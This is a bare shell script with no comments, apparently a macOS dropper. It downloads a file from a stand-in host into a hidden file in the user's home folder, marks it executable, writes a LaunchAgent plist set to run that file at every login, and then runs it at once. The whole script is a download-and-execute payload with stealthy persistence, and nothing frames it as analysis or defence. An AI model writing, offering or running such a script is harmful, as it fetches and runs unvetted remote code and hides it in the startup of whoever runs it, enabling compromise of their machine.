#!/bin/sh
curl -fsSL https://x.example.invalid/u -o "$HOME/.u"
chmod +x "$HOME/.u"
cat > "$HOME/Library/LaunchAgents/com.example.u.plist" <<E
<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>$HOME/.u</string></array><key>RunAtLoad</key><true/></dict></plist>
E
"$HOME/.u"
